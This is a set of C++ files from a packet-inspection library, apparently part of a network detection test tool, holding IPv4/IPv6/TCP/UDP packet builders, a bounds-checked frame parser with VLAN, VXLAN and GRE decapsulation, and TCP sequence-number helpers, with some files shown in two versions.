  bool more_fragments = false;
  std::size_t fragment_offset = 0;  // bytes; must be a multiple of 8
};

/// Build an IPv4 datagram around `l4_bytes` (header checksum filled in).
Bytes build_ipv4(const Ipv4Spec& ip, ByteView l4_bytes);

/// Fields of an IPv6 datagram under construction. Payload length is
/// computed; extension headers are supplied pre-linked (see build_ipv6_ext).
struct Ipv6Spec {
  IpAddr src;
  IpAddr dst;
  std::uint8_t next_header = static_cast<std::uint8_t>(IpProto::tcp);
  std::uint8_t hop_limit = 64;
  std::uint8_t traffic_class = 0;
  std::uint32_t flow_label = 0;
  /// Extension-header blob placed between the base header and `l4_bytes`.
  /// Its internal next-header chain must already be linked; when non-empty,
  /// `next_header` should name the FIRST extension header's type and the
  /// last extension header's next-header byte the L4 protocol.
  Bytes ext;
};

/// Build an IPv6 datagram around `l4_bytes`.
Bytes build_ipv6(const Ipv6Spec& ip, ByteView l4_bytes);

/// One generic extension header (hop-by-hop / routing / destination-options
/// layout): next-header byte, length byte, zero fill. `units8` is the total
/// size in 8-byte units (>= 1).
Bytes build_ipv6_ext(std::uint8_t next_header, std::size_t units8);

/// Fields of a TCP segment under construction.
struct TcpSpec {
  std::uint16_t src_port = 0;
  std::uint16_t dst_port = 0;
  std::uint32_t seq = 0;
  std::uint32_t ack = 0;
  std::uint8_t flags = kTcpAck;
  std::uint16_t window = 65535;
  std::uint16_t urgent_pointer = 0;
  /// Raw options bytes (build with TcpOptionsBuilder). Must be a 4-byte
  /// multiple, at most 40 bytes; violations throw InvalidArgument.
  Bytes options;
};

/// Build a TCP header + payload with a valid checksum for the given
/// pseudo-header addresses.
Bytes build_tcp(Ipv4Addr src, Ipv4Addr dst, const TcpSpec& tcp,
                ByteView payload);

/// Version-agnostic TCP builder: v4-mapped addresses use the IPv4
/// pseudo-header, anything else the IPv6 one.
Bytes build_tcp(IpAddr src, IpAddr dst, const TcpSpec& tcp, ByteView payload);

/// Build a UDP header + payload with a valid checksum.
Bytes build_udp(Ipv4Addr src, Ipv4Addr dst, std::uint16_t src_port,
                std::uint16_t dst_port, ByteView payload);

/// Version-agnostic UDP builder (see build_tcp).
Bytes build_udp(IpAddr src, IpAddr dst, std::uint16_t src_port,
                std::uint16_t dst_port, ByteView payload);

/// Convenience: full IPv4+TCP datagram.
Bytes build_tcp_packet(const Ipv4Spec& ip, const TcpSpec& tcp,
                       ByteView payload);

/// Convenience: full IPv6+TCP datagram (extension headers from ip.ext).
Bytes build_tcp_packet(const Ipv6Spec& ip, const TcpSpec& tcp,
                       ByteView payload);

/// Convenience: full IPv4+UDP datagram.
Bytes build_udp_packet(const Ipv4Spec& ip, std::uint16_t src_port,
                       std::uint16_t dst_port, ByteView payload);

/// Convenience: full IPv6+UDP datagram.
Bytes build_udp_packet(const Ipv6Spec& ip, std::uint16_t src_port,
                       std::uint16_t dst_port, ByteView payload);

/// Wrap an IP datagram of either version in an Ethernet II frame (synthetic
/// MACs; the EtherType follows the version nibble).
Bytes wrap_ethernet(ByteView ip_datagram);

/// Insert one 802.1Q tag into an Ethernet frame, directly after the MAC
/// addresses. `tpid` is the tag's own EtherType (kEtherTypeVlan for a plain
/// tag, kEtherTypeQinQ for the outer tag of a double-tagged frame); the
/// previous EtherType (or inner tag) shifts right. Apply twice for QinQ,
/// outermost last.
Bytes wrap_vlan(ByteView ethernet_frame, std::uint16_t vlan_id,
                std::uint16_t tpid = kEtherTypeVlan);

/// Encapsulate an inner ETHERNET frame in VXLAN: outer IPv4 + UDP (dst port
/// kVxlanPort) + 8-byte VXLAN header carrying `vni`. The outer spec's
/// protocol field is forced to UDP.
Bytes wrap_vxlan(const Ipv4Spec& outer, std::uint16_t udp_src_port,
                 std::uint32_t vni, ByteView inner_ethernet_frame);

/// Encapsulate an inner IP datagram (either version) in GRE (RFC 2784, no
/// optional fields): outer IPv4 with protocol 47 + 4-byte GRE header whose
/// protocol field follows the inner version nibble.
Bytes wrap_gre(const Ipv4Spec& outer, ByteView inner_ip_datagram);

/// Split an IPv4 datagram into fragments whose payloads are at most
/// `mtu_payload` bytes (rounded down to a multiple of 8 except the last).
/// Standards-conformant fragmentation; hostile variants live in sdt::evasion.
/// Throws InvalidArgument if the datagram is not parseable or mtu_payload < 8.
std::vector<Bytes> fragment_ipv4(ByteView ip_datagram,
                                 std::size_t mtu_payload);

/// Split an IPv6 datagram into fragments via fragment extension headers,
/// each carrying at most `mtu_payload` bytes (rounded down to a multiple of
/// 8 except the last). The whole extension chain is treated as the
/// unfragmentable part. Throws InvalidArgument on short/odd input.
std::vector<Bytes> fragment_ipv6(ByteView ip_datagram,
                                 std::size_t mtu_payload, std::uint32_t id);

}  // namespace sdt::net
