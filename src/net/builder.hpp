// Packet construction: well-formed IPv4/TCP/UDP datagrams with correct
// lengths and checksums. The evasion library layers hostile fragmentation
// and overlap on top of these primitives.
#pragma once

#include <cstdint>
#include <vector>

#include "net/addr.hpp"
#include "net/headers.hpp"
#include "util/bytes.hpp"

namespace sdt::net {

/// Fields of an IPv4 datagram under construction. Total length and header
/// checksum are computed; everything else is caller-controlled so tests can
/// craft hostile values.
struct Ipv4Spec {
  Ipv4Addr src;
  Ipv4Addr dst;
  std::uint8_t protocol = static_cast<std::uint8_t>(IpProto::tcp);
  std::uint8_t ttl = 64;
  std::uint8_t tos = 0;
  std::uint16_t id = 0;
  bool dont_fragment = false;
  bool more_fragments = false;
  std::size_t fragment_offset = 0;  // bytes; must be a multiple of 8
};

/// Build an IPv4 datagram around `l4_bytes` (header checksum filled in).
Bytes build_ipv4(const Ipv4Spec& ip, ByteView l4_bytes);

/// Fields of a TCP segment under construction.
struct TcpSpec {
  std::uint16_t src_port = 0;
  std::uint16_t dst_port = 0;
  std::uint32_t seq = 0;
  std::uint32_t ack = 0;
  std::uint8_t flags = kTcpAck;
  std::uint16_t window = 65535;
  std::uint16_t urgent_pointer = 0;
  /// Raw options bytes (build with TcpOptionsBuilder). Must be a 4-byte
  /// multiple, at most 40 bytes; violations throw InvalidArgument.
  Bytes options;
};

/// Build a TCP header + payload with a valid checksum for the given
/// pseudo-header addresses.
Bytes build_tcp(Ipv4Addr src, Ipv4Addr dst, const TcpSpec& tcp,
                ByteView payload);

/// Build a UDP header + payload with a valid checksum.
Bytes build_udp(Ipv4Addr src, Ipv4Addr dst, std::uint16_t src_port,
                std::uint16_t dst_port, ByteView payload);

/// Convenience: full IPv4+TCP datagram.
Bytes build_tcp_packet(const Ipv4Spec& ip, const TcpSpec& tcp,
                       ByteView payload);

/// Convenience: full IPv4+UDP datagram.
Bytes build_udp_packet(const Ipv4Spec& ip, std::uint16_t src_port,
                       std::uint16_t dst_port, ByteView payload);

/// Wrap an IPv4 datagram in an Ethernet II frame (synthetic MACs).
Bytes wrap_ethernet(ByteView ip_datagram);

/// Split an IPv4 datagram into fragments whose payloads are at most
/// `mtu_payload` bytes (rounded down to a multiple of 8 except the last).
/// Standards-conformant fragmentation; hostile variants live in sdt::evasion.
/// Throws InvalidArgument if the datagram is not parseable or mtu_payload < 8.
std::vector<Bytes> fragment_ipv4(ByteView ip_datagram,
                                 std::size_t mtu_payload);

}  // namespace sdt::net
