#include "net/packet.hpp"

namespace sdt::net {

const char* to_string(ParseStatus s) {
  switch (s) {
    case ParseStatus::ok:
      return "ok";
    case ParseStatus::truncated_l2:
      return "truncated_l2";
    case ParseStatus::not_ipv4:
      return "not_ipv4";
    case ParseStatus::truncated_l3:
      return "truncated_l3";
    case ParseStatus::bad_ip_header:
      return "bad_ip_header";
    case ParseStatus::fragment:
      return "fragment";
    case ParseStatus::unsupported_proto:
      return "unsupported_proto";
    case ParseStatus::truncated_l4:
      return "truncated_l4";
  }
  return "unknown";
}

PacketView PacketView::parse(ByteView frame, LinkType lt) {
  PacketView pv;
  pv.frame = frame;

  ByteView l3 = frame;
  if (lt == LinkType::ethernet) {
    if (frame.size() < kEthernetHeaderLen) {
      pv.status = ParseStatus::truncated_l2;
      return pv;
    }
    EthernetView eth(frame);
    if (eth.ether_type() != kEtherTypeIpv4) {
      pv.status = ParseStatus::not_ipv4;
      return pv;
    }
    l3 = frame.subspan(kEthernetHeaderLen);
  }

  PacketView inner = parse_ipv4(l3);
  inner.frame = frame;
  return inner;
}

PacketView PacketView::parse_ipv4(ByteView datagram) {
  PacketView pv;
  pv.frame = datagram;

  if (datagram.size() < kIpv4MinHeaderLen) {
    pv.status = ParseStatus::truncated_l3;
    return pv;
  }
  if ((datagram[0] >> 4) != 4) {
    pv.status = ParseStatus::not_ipv4;
    return pv;
  }
  const std::size_t ihl = std::size_t{datagram[0] & 0xfu} * 4;
  if (ihl < kIpv4MinHeaderLen) {
    pv.status = ParseStatus::bad_ip_header;
    return pv;
  }
  const std::uint16_t total_len = rd_u16be(datagram, 2);
  if (total_len < ihl) {
    pv.status = ParseStatus::bad_ip_header;
    return pv;
  }
  if (datagram.size() < total_len) {
    pv.status = ParseStatus::truncated_l3;
    return pv;
  }
  // Trim any link-layer padding beyond the IP total length.
  pv.ip_datagram = datagram.subspan(0, total_len);
  pv.ipv4 = Ipv4View(pv.ip_datagram.subspan(0, ihl));
  pv.has_ipv4 = true;

  if (pv.ipv4.is_fragment()) {
    pv.status = ParseStatus::fragment;
    return pv;
  }

  const ByteView l4 = pv.ip_datagram.subspan(ihl);
  switch (pv.ipv4.protocol()) {
    case static_cast<std::uint8_t>(IpProto::tcp): {
      pv.proto = IpProto::tcp;
      if (l4.size() < kTcpMinHeaderLen) {
        pv.status = ParseStatus::truncated_l4;
        return pv;
      }
      const std::size_t doff = static_cast<std::size_t>(l4[12] >> 4) * 4;
      if (doff < kTcpMinHeaderLen || doff > l4.size()) {
        pv.status = ParseStatus::truncated_l4;
        return pv;
      }
      pv.tcp = TcpView(l4.subspan(0, doff));
      pv.l4_payload = l4.subspan(doff);
      pv.has_tcp = true;
      break;
    }
    case static_cast<std::uint8_t>(IpProto::udp): {
      pv.proto = IpProto::udp;
      if (l4.size() < kUdpHeaderLen) {
        pv.status = ParseStatus::truncated_l4;
        return pv;
      }
      pv.udp = UdpView(l4.subspan(0, kUdpHeaderLen));
      pv.l4_payload = l4.subspan(kUdpHeaderLen);
      pv.has_udp = true;
      break;
    }
    default:
      pv.status = ParseStatus::unsupported_proto;
      return pv;
  }

  pv.status = ParseStatus::ok;
  return pv;
}

PacketIndex PacketIndex::index(ByteView frame, LinkType lt) {
  const PacketView pv = PacketView::parse(frame, lt);
  PacketIndex ix;
  ix.status = pv.status;
  ix.proto = pv.proto;
  ix.has_ipv4 = pv.has_ipv4;
  ix.has_tcp = pv.has_tcp;
  ix.has_udp = pv.has_udp;
  const auto off_of = [&](ByteView part) {
    return static_cast<std::uint32_t>(part.data() - frame.data());
  };
  if (pv.has_ipv4) {
    ix.l3_off = off_of(pv.ip_datagram);
    ix.l3_len = static_cast<std::uint32_t>(pv.ip_datagram.size());
    ix.ihl = static_cast<std::uint16_t>(pv.ipv4.raw().size());
  }
  if (pv.has_tcp) {
    ix.l4_off = off_of(pv.tcp.raw());
    ix.l4_hdr_len = static_cast<std::uint16_t>(pv.tcp.raw().size());
  } else if (pv.has_udp) {
    ix.l4_off = ix.l3_off + ix.ihl;
    ix.l4_hdr_len = static_cast<std::uint16_t>(kUdpHeaderLen);
  }
  if (pv.has_tcp || pv.has_udp) {
    ix.payload_off = off_of(pv.l4_payload);
    ix.payload_len = static_cast<std::uint32_t>(pv.l4_payload.size());
  }
  return ix;
}

PacketView PacketIndex::view(ByteView frame) const {
  PacketView pv;
  pv.status = status;
  pv.frame = frame;
  pv.proto = proto;
  if (has_ipv4) {
    pv.ip_datagram = frame.subspan(l3_off, l3_len);
    pv.ipv4 = Ipv4View(pv.ip_datagram.subspan(0, ihl));
    pv.has_ipv4 = true;
  }
  if (has_tcp) {
    pv.tcp = TcpView(frame.subspan(l4_off, l4_hdr_len));
    pv.has_tcp = true;
  } else if (has_udp) {
    pv.udp = UdpView(frame.subspan(l4_off, l4_hdr_len));
    pv.has_udp = true;
  }
  if (has_tcp || has_udp) {
    pv.l4_payload = frame.subspan(payload_off, payload_len);
  }
  return pv;
}

}  // namespace sdt::net
