#include "net/packet.hpp"

namespace sdt::net {

const char* to_string(ParseStatus s) {
  switch (s) {
    case ParseStatus::ok:
      return "ok";
    case ParseStatus::truncated_l2:
      return "truncated_l2";
    case ParseStatus::not_ip:
      return "not_ip";
    case ParseStatus::truncated_l3:
      return "truncated_l3";
    case ParseStatus::bad_ip_header:
      return "bad_ip_header";
    case ParseStatus::bad_ext_header:
      return "bad_ext_header";
    case ParseStatus::bad_decap:
      return "bad_decap";
    case ParseStatus::fragment:
      return "fragment";
    case ParseStatus::unsupported_proto:
      return "unsupported_proto";
    case ParseStatus::truncated_l4:
      return "truncated_l4";
  }
  return "unknown";
}

namespace {

// Forward declarations: the parse is (shallowly) recursive through tunnel
// decap. `depth` > 0 disables further decapsulation — exactly one
// outer→inner re-index per frame, so a tunnel-in-tunnel payload is
// delivered as the first inner packet (plain UDP / unsupported_proto)
// rather than walked indefinitely.
PacketView parse_ip(ByteView datagram, int depth, std::uint8_t expect_version);
PacketView parse_ethernet(ByteView frame, int depth);

/// VXLAN decap: `outer` is a fully parsed UDP packet with dst port 4789.
/// The payload must be an 8-byte VXLAN header (flags == 0x08) followed by
/// an inner Ethernet frame. A non-IP inner ethertype keeps the outer plain
/// UDP view; a structurally broken tunnel payload rejects the whole frame.
PacketView decap_vxlan(const PacketView& outer, int depth) {
  const ByteView p = outer.l4_payload;
  PacketView bad = outer;
  bad.status = ParseStatus::bad_decap;
  if (p.size() < kVxlanHeaderLen + kEthernetHeaderLen) return bad;
  if (p[0] != kVxlanFlags) return bad;
  PacketView inner = parse_ethernet(p.subspan(kVxlanHeaderLen), depth + 1);
  if (inner.status == ParseStatus::not_ip) return outer;
  if (is_malformed(inner.status)) return bad;
  inner.frame = outer.frame;
  inner.vlan_tags = static_cast<std::uint8_t>(inner.vlan_tags + outer.vlan_tags);
  inner.encap = Encap::vxlan;
  inner.outer_src = outer.outer_src;
  inner.outer_dst = outer.outer_dst;
  inner.outer_hdr = outer.outer_hdr;
  inner.outer_version = outer.outer_version;
  return inner;
}

/// GRE decap (RFC 2784 + the key/sequence extensions of RFC 2890): `outer`
/// carries IP headers already filled; `l4` is the GRE header + payload.
/// Version != 0 or the deprecated routing-present bit rejects; a non-IP
/// protocol field keeps the outer unsupported_proto view (same class the
/// frame had before GRE decap existed); an inner datagram that contradicts
/// the declared protocol or is malformed rejects the whole frame.
PacketView decap_gre(const PacketView& outer, ByteView l4, int depth) {
  PacketView bad = outer;
  bad.status = ParseStatus::bad_decap;
  if (l4.size() < kGreMinHeaderLen) return bad;
  const std::uint8_t flags = l4[0];
  if ((l4[1] & 0x07) != 0) return bad;       // version must be 0
  if ((flags & 0x40) != 0) return bad;       // routing-present: deprecated
  std::size_t hdr = kGreMinHeaderLen;
  if ((flags & 0x80) != 0) hdr += 4;         // checksum + reserved
  if ((flags & 0x20) != 0) hdr += 4;         // key
  if ((flags & 0x10) != 0) hdr += 4;         // sequence number
  if (l4.size() < hdr) return bad;
  const std::uint16_t proto = rd_u16be(l4, 2);
  if (proto != kEtherTypeIpv4 && proto != kEtherTypeIpv6) {
    PacketView pv = outer;
    pv.status = ParseStatus::unsupported_proto;
    return pv;
  }
  PacketView inner = parse_ip(l4.subspan(hdr), depth + 1,
                              proto == kEtherTypeIpv4 ? 4 : 6);
  if (inner.status == ParseStatus::not_ip || is_malformed(inner.status)) {
    return bad;
  }
  inner.frame = outer.frame;
  inner.vlan_tags = outer.vlan_tags;
  inner.encap = Encap::gre;
  inner.outer_src = outer.outer_src;
  inner.outer_dst = outer.outer_dst;
  inner.outer_hdr = outer.outer_hdr;
  inner.outer_version = outer.outer_version;
  return inner;
}

/// Shared TCP/UDP tail for both IP versions. `pv` has its network layer
/// filled; `l4` is the transport header + payload slice.
PacketView parse_transport(PacketView pv, ByteView l4, std::uint8_t proto,
                           int depth) {
  switch (proto) {
    case static_cast<std::uint8_t>(IpProto::tcp): {
      pv.proto = IpProto::tcp;
      if (l4.size() < kTcpMinHeaderLen) {
        pv.status = ParseStatus::truncated_l4;
        return pv;
      }
      const std::size_t doff = static_cast<std::size_t>(l4[12] >> 4) * 4;
      if (doff < kTcpMinHeaderLen || doff > l4.size()) {
        pv.status = ParseStatus::truncated_l4;
        return pv;
      }
      pv.tcp = TcpView(l4.subspan(0, doff));
      pv.l4_span = l4;
      pv.l4_payload = l4.subspan(doff);
      pv.has_tcp = true;
      pv.status = ParseStatus::ok;
      return pv;
    }
    case static_cast<std::uint8_t>(IpProto::udp): {
      pv.proto = IpProto::udp;
      if (l4.size() < kUdpHeaderLen) {
        pv.status = ParseStatus::truncated_l4;
        return pv;
      }
      pv.udp = UdpView(l4.subspan(0, kUdpHeaderLen));
      pv.l4_span = l4;
      pv.l4_payload = l4.subspan(kUdpHeaderLen);
      pv.has_udp = true;
      pv.status = ParseStatus::ok;
      if (depth == 0 && pv.udp.dst_port() == kVxlanPort) {
        return decap_vxlan(pv, depth);
      }
      return pv;
    }
    case static_cast<std::uint8_t>(IpProto::gre):
      if (depth == 0) return decap_gre(pv, l4, depth);
      pv.status = ParseStatus::unsupported_proto;
      return pv;
    default:
      pv.status = ParseStatus::unsupported_proto;
      return pv;
  }
}

PacketView parse_v4(ByteView datagram, int depth) {
  PacketView pv;
  pv.frame = datagram;

  const std::size_t ihl = std::size_t{datagram[0] & 0xfu} * 4;
  if (ihl < kIpv4MinHeaderLen) {
    pv.status = ParseStatus::bad_ip_header;
    return pv;
  }
  const std::uint16_t total_len = rd_u16be(datagram, 2);
  if (total_len < ihl) {
    pv.status = ParseStatus::bad_ip_header;
    return pv;
  }
  if (datagram.size() < total_len) {
    pv.status = ParseStatus::truncated_l3;
    return pv;
  }
  // Trim any link-layer padding beyond the IP total length.
  pv.ip_datagram = datagram.subspan(0, total_len);
  pv.ipv4 = Ipv4View(pv.ip_datagram.subspan(0, ihl));
  pv.has_ipv4 = true;
  pv.outer_src = IpAddr::v4(pv.ipv4.src());
  pv.outer_dst = IpAddr::v4(pv.ipv4.dst());
  pv.outer_hdr = pv.ip_datagram.subspan(0, kIpv4MinHeaderLen);
  pv.outer_version = 4;

  if (pv.ipv4.is_fragment()) {
    pv.status = ParseStatus::fragment;
    pv.frag_id = pv.ipv4.id();
    pv.frag_offset = static_cast<std::uint32_t>(pv.ipv4.fragment_offset());
    pv.frag_more = pv.ipv4.more_fragments();
    pv.frag_proto = pv.ipv4.protocol();
    pv.frag_head = pv.ipv4.raw();
    pv.frag_payload = pv.ip_datagram.subspan(ihl);
    return pv;
  }

  const ByteView l4 = pv.ip_datagram.subspan(ihl);
  const std::uint8_t proto = pv.ipv4.protocol();
  return parse_transport(std::move(pv), l4, proto, depth);
}

PacketView parse_v6(ByteView datagram, int depth) {
  PacketView pv;
  pv.frame = datagram;

  if (datagram.size() < kIpv6HeaderLen) {
    pv.status = ParseStatus::truncated_l3;
    return pv;
  }
  const std::size_t total = kIpv6HeaderLen + rd_u16be(datagram, 4);
  if (datagram.size() < total) {
    pv.status = ParseStatus::truncated_l3;
    return pv;
  }
  pv.ip_datagram = datagram.subspan(0, total);
  pv.ipv6 = Ipv6View(pv.ip_datagram.subspan(0, kIpv6HeaderLen));
  pv.has_ipv6 = true;
  pv.outer_src = pv.ipv6.src();
  pv.outer_dst = pv.ipv6.dst();
  pv.outer_hdr = pv.ipv6.raw();
  pv.outer_version = 6;

  // Bounded extension-header walk. Each header advances the offset by at
  // least 8 bytes; the count cap turns both loops and overlong chains into
  // bad_ext_header rejections at the edge.
  const ByteView d = pv.ip_datagram;
  std::size_t off = kIpv6HeaderLen;
  std::size_t nh_off = 6;  // offset of the byte naming the current header
  std::uint8_t nh = pv.ipv6.next_header();
  std::size_t count = 0;
  while (nh == kIpv6ExtHopByHop || nh == kIpv6ExtRouting ||
         nh == kIpv6ExtFragment || nh == kIpv6ExtDestOpts) {
    if (++count > kMaxIpv6ExtHeaders || off + 8 > d.size()) {
      pv.status = ParseStatus::bad_ext_header;
      return pv;
    }
    if (nh == kIpv6ExtFragment) {
      const std::uint16_t off_flags = rd_u16be(d, off + 2);
      const std::uint32_t frag_off = off_flags & 0xfff8u;
      const bool more = (off_flags & 0x1u) != 0;
      if (frag_off != 0 || more) {
        pv.status = ParseStatus::fragment;
        pv.frag_proto = d[off];
        pv.frag_offset = frag_off;
        pv.frag_more = more;
        pv.frag_id = rd_u32be(d, off + 4);
        pv.frag_head = d.first(off);
        pv.frag_nh_off = static_cast<std::uint16_t>(nh_off);
        pv.frag_payload = d.subspan(off + kIpv6FragHeaderLen);
        return pv;
      }
      // Atomic fragment (offset 0, MF 0): skip the header, keep walking.
      nh = d[off];
      nh_off = off;
      off += kIpv6FragHeaderLen;
      continue;
    }
    const std::size_t ext_len = 8 + std::size_t{d[off + 1]} * 8;
    if (off + ext_len > d.size()) {
      pv.status = ParseStatus::bad_ext_header;
      return pv;
    }
    nh = d[off];
    nh_off = off;
    off += ext_len;
  }

  const ByteView l4 = d.subspan(off);
  return parse_transport(std::move(pv), l4, nh, depth);
}

PacketView parse_ip(ByteView datagram, int depth,
                    std::uint8_t expect_version) {
  // Length floor BEFORE the version nibble: a frame too short to carry any
  // IP header is truncated_l3 (rejected) even if the nibble is garbage.
  // peek_lane mirrors this ordering.
  if (datagram.size() < kIpv4MinHeaderLen) {
    PacketView pv;
    pv.frame = datagram;
    pv.status = ParseStatus::truncated_l3;
    return pv;
  }
  const std::uint8_t ver = datagram[0] >> 4;
  if ((expect_version != 0 && ver != expect_version) ||
      (ver != 4 && ver != 6)) {
    PacketView pv;
    pv.frame = datagram;
    pv.status = ParseStatus::not_ip;
    return pv;
  }
  return ver == 4 ? parse_v4(datagram, depth) : parse_v6(datagram, depth);
}

PacketView parse_ethernet(ByteView frame, int depth) {
  PacketView pv;
  pv.frame = frame;
  if (frame.size() < kEthernetHeaderLen) {
    pv.status = ParseStatus::truncated_l2;
    return pv;
  }
  // 802.1Q walk: each tag shifts the real EtherType 4 bytes right. Up to
  // kMaxVlanTags (double-tagged / QinQ); deeper stacks are delivered as
  // non-IP rather than walked.
  std::size_t pos = 12;
  std::uint16_t et = rd_u16be(frame, pos);
  std::uint8_t tags = 0;
  while (et == kEtherTypeVlan || et == kEtherTypeQinQ) {
    if (tags == kMaxVlanTags) {
      pv.status = ParseStatus::not_ip;
      pv.vlan_tags = tags;
      return pv;
    }
    pos += kVlanTagLen;
    if (frame.size() < pos + 2) {
      pv.status = ParseStatus::truncated_l2;
      return pv;
    }
    et = rd_u16be(frame, pos);
    ++tags;
  }
  if (et != kEtherTypeIpv4 && et != kEtherTypeIpv6) {
    pv.status = ParseStatus::not_ip;
    pv.vlan_tags = tags;
    return pv;
  }
  PacketView inner = parse_ip(frame.subspan(pos + 2), depth,
                              et == kEtherTypeIpv4 ? 4 : 6);
  inner.frame = frame;
  inner.vlan_tags = static_cast<std::uint8_t>(inner.vlan_tags + tags);
  return inner;
}

}  // namespace

PacketView PacketView::parse(ByteView frame, LinkType lt) {
  if (lt == LinkType::ethernet) return parse_ethernet(frame, 0);
  return parse_ip(frame, 0, 0);
}

PacketView PacketView::parse_l3(ByteView datagram) {
  return parse_ip(datagram, 0, 0);
}

PacketView PacketView::parse_ipv4(ByteView datagram) {
  return parse_ip(datagram, 0, 4);
}

PacketIndex PacketIndex::index(ByteView frame, LinkType lt) {
  const PacketView pv = PacketView::parse(frame, lt);
  PacketIndex ix;
  ix.status = pv.status;
  ix.proto = pv.proto;
  ix.has_ipv4 = pv.has_ipv4;
  ix.has_ipv6 = pv.has_ipv6;
  ix.has_tcp = pv.has_tcp;
  ix.has_udp = pv.has_udp;
  ix.vlan_tags = pv.vlan_tags;
  ix.encap = pv.encap;
  ix.outer_version = pv.outer_version;
  const auto off_of = [&](ByteView part) {
    return static_cast<std::uint32_t>(part.data() - frame.data());
  };
  if (pv.has_ipv4 || pv.has_ipv6) {
    ix.l3_off = off_of(pv.ip_datagram);
    ix.l3_len = static_cast<std::uint32_t>(pv.ip_datagram.size());
    ix.ihl = pv.has_ipv4 ? static_cast<std::uint16_t>(pv.ipv4.raw().size())
                         : static_cast<std::uint16_t>(kIpv6HeaderLen);
  }
  if (pv.outer_version != 0) ix.outer_l3_off = off_of(pv.outer_hdr);
  if (pv.has_tcp) {
    ix.l4_off = off_of(pv.tcp.raw());
    ix.l4_hdr_len = static_cast<std::uint16_t>(pv.tcp.raw().size());
  } else if (pv.has_udp) {
    ix.l4_off = off_of(pv.l4_span);
    ix.l4_hdr_len = static_cast<std::uint16_t>(kUdpHeaderLen);
  }
  if (pv.has_tcp || pv.has_udp) {
    ix.payload_off = off_of(pv.l4_payload);
    ix.payload_len = static_cast<std::uint32_t>(pv.l4_payload.size());
  }
  if (pv.is_fragment()) {
    ix.frag_id = pv.frag_id;
    ix.frag_offset = pv.frag_offset;
    ix.frag_more = pv.frag_more;
    ix.frag_proto = pv.frag_proto;
    ix.frag_head_len = static_cast<std::uint16_t>(pv.frag_head.size());
    ix.frag_nh_off = pv.frag_nh_off;
    ix.payload_off = off_of(pv.frag_payload);
    ix.payload_len = static_cast<std::uint32_t>(pv.frag_payload.size());
  }
  return ix;
}

PacketView PacketIndex::view(ByteView frame) const {
  PacketView pv;
  pv.status = status;
  pv.frame = frame;
  pv.proto = proto;
  pv.vlan_tags = vlan_tags;
  pv.encap = encap;
  pv.outer_version = outer_version;
  if (has_ipv4 || has_ipv6) {
    pv.ip_datagram = frame.subspan(l3_off, l3_len);
    if (has_ipv4) {
      pv.ipv4 = Ipv4View(pv.ip_datagram.subspan(0, ihl));
      pv.has_ipv4 = true;
    } else {
      pv.ipv6 = Ipv6View(pv.ip_datagram.subspan(0, kIpv6HeaderLen));
      pv.has_ipv6 = true;
    }
  }
  if (outer_version == 4) {
    pv.outer_hdr = frame.subspan(outer_l3_off, kIpv4MinHeaderLen);
    pv.outer_src = IpAddr::v4(Ipv4Addr{rd_u32be(frame, outer_l3_off + 12)});
    pv.outer_dst = IpAddr::v4(Ipv4Addr{rd_u32be(frame, outer_l3_off + 16)});
  } else if (outer_version == 6) {
    pv.outer_hdr = frame.subspan(outer_l3_off, kIpv6HeaderLen);
    pv.outer_src = IpAddr::v6(frame.data() + outer_l3_off + 8);
    pv.outer_dst = IpAddr::v6(frame.data() + outer_l3_off + 24);
  }
  if (has_tcp) {
    pv.tcp = TcpView(frame.subspan(l4_off, l4_hdr_len));
    pv.has_tcp = true;
  } else if (has_udp) {
    pv.udp = UdpView(frame.subspan(l4_off, l4_hdr_len));
    pv.has_udp = true;
  }
  if (has_tcp || has_udp) {
    pv.l4_span = frame.subspan(l4_off, l3_off + l3_len - l4_off);
    pv.l4_payload = frame.subspan(payload_off, payload_len);
  }
  if (status == ParseStatus::fragment) {
    pv.frag_id = frag_id;
    pv.frag_offset = frag_offset;
    pv.frag_more = frag_more;
    pv.frag_proto = frag_proto;
    pv.frag_nh_off = frag_nh_off;
    pv.frag_head = frame.subspan(l3_off, frag_head_len);
    pv.frag_payload = frame.subspan(payload_off, payload_len);
  }
  return pv;
}

}  // namespace sdt::net
