// TCP sequence-number arithmetic. Sequence numbers live on a 2^32 circle;
// ordinary integer comparison is wrong across wraparound. These helpers
// implement RFC 793 serial-number comparison, used by the reassembler and
// the fast-path flow tracker.
#pragma once

#include <cstdint>

namespace sdt::net {

/// a < b on the sequence circle (true iff a precedes b within a half-window).
inline bool seq_lt(std::uint32_t a, std::uint32_t b) {
  return static_cast<std::int32_t>(a - b) < 0;
}

inline bool seq_leq(std::uint32_t a, std::uint32_t b) {
  return static_cast<std::int32_t>(a - b) <= 0;
}

inline bool seq_gt(std::uint32_t a, std::uint32_t b) { return seq_lt(b, a); }

inline bool seq_geq(std::uint32_t a, std::uint32_t b) { return seq_leq(b, a); }

/// Signed distance from b to a (a - b) on the circle.
inline std::int32_t seq_diff(std::uint32_t a, std::uint32_t b) {
  return static_cast<std::int32_t>(a - b);
}

inline std::uint32_t seq_add(std::uint32_t a, std::uint32_t n) {
  return a + n;  // modular by construction
}

inline std::uint32_t seq_max(std::uint32_t a, std::uint32_t b) {
  return seq_lt(a, b) ? b : a;
}

inline std::uint32_t seq_min(std::uint32_t a, std::uint32_t b) {
  return seq_lt(a, b) ? a : b;
}

}  // namespace sdt::net
