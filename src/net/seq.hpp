// TCP sequence-number arithmetic. Sequence numbers live on a 2^32 circle;
// ordinary integer comparison is wrong across wraparound. These helpers
// implement RFC 793 serial-number comparison, used by the reassembler and
// the fast-path flow tracker.
#pragma once

#include <cstdint>

namespace sdt::net {

/// a < b on the sequence circle (true iff a precedes b within a half-window).
inline bool seq_lt(std::uint32_t a, std::uint32_t b) {
  return static_cast<std::int32_t>(a - b) < 0;
}

inline bool seq_leq(std::uint32_t a, std::uint32_t b) {
  return static_cast<std::int32_t>(a - b) <= 0;
}

inline bool seq_gt(std::uint32_t a, std::uint32_t b) { return seq_lt(b, a); }

inline bool seq_geq(std::uint32_t a, std::uint32_t b) { return seq_leq(b, a); }

/// Three-way serial comparison (the classic TCP_SEQ_CMP idiom): negative
/// when a precedes b on the circle, 0 when equal, positive when a follows.
/// The canonical spelling for new code — every ordered comparison of raw
/// 32-bit sequence numbers must go through this family, never through
/// built-in <, or a long-lived flow crossing 2^32 misorders its segments.
inline int seq_cmp(std::uint32_t a, std::uint32_t b) {
  const std::int32_t d = static_cast<std::int32_t>(a - b);
  return (d > 0) - (d < 0);
}

/// True iff seq lies in the half-open window [lo, hi) on the circle.
inline bool seq_between(std::uint32_t lo, std::uint32_t seq,
                        std::uint32_t hi) {
  return seq - lo < hi - lo;  // both distances modular by construction
}

